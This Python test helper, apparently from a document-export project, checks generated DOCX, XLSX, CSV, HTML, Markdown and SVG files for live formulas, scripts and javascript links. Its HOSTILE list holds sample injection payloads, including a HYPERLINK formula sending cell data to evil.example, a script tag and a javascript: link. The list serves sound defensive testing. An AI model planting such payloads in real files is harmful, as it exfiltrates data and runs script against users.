"""Checks shared by the tests of hostile text: every output file opens, no spreadsheet
cell is a formula, the HTML is balanced and runs nothing, the Markdown holds no markup
built from data."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

from cdop._safe import FORMULA_PREFIXES

_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?")
_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_VOID = {"meta", "br", "img", "hr", "input", "link", "col", "area", "base", "wbr", "source"}

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "North\x00moor\x01\x1b[31m",
    "a\ud800b",
    "\u202eevil",
    "x" * 5000,
    "2" * 309,  # an integer too long for a spreadsheet number
]


def _live_formula(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return cell.startswith(FORMULA_PREFIXES) and _NUMBER.fullmatch(cell) is None


class _Balance(HTMLParser):
    """Checks that every element is closed in order and that no script can run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script" or any(k.startswith("on") for k, _ in attrs):
            self.errors.append(f"script: <{tag} {attrs}>")
        if any(v and v.strip().lower().startswith("javascript:") for _, v in attrs):
            self.errors.append(f"javascript link: {attrs}")
        if tag not in _VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.errors.append("script")

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:]}")
        else:
            self.stack.pop()


def assert_html_well_formed(text: str) -> None:
    checker = _Balance()
    checker.feed(text)
    checker.close()
    assert not checker.errors, checker.errors[:3]
    assert checker.stack == [], checker.stack
    assert _NOT_XML.search(text) is None


def assert_outputs_safe(folder: Path) -> int:
    """Open every file written to ``folder`` and check it; return how many were checked."""
    import docx
    import openpyxl

    checked = 0
    for path in sorted(folder.rglob("*")):
        if path.is_dir() or path.name.startswith("."):
            continue
        checked += 1
        if path.suffix == ".docx":
            document = docx.Document(str(path))
            assert document.paragraphs
        elif path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            assert not _live_formula(cell.value), (path, cell.value)
        elif path.suffix == ".csv":
            text = path.read_text(encoding="utf-8")
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    assert not _live_formula(cell), (path, cell)
        elif path.suffix == ".html":
            assert_html_well_formed(path.read_text(encoding="utf-8"))
        elif path.suffix == ".md":
            text = path.read_text(encoding="utf-8")
            assert _NOT_XML.search(text) is None
            assert re.search(r"(?<!\\)\]\(\s*javascript:", text) is None, "live link"
            assert re.search(r"(?<!\\)<(?=[A-Za-z/!?])", text) is None, "raw HTML"
        elif path.suffix == ".svg":
            from xml.etree import ElementTree

            ElementTree.fromstring(path.read_bytes())
    return checked
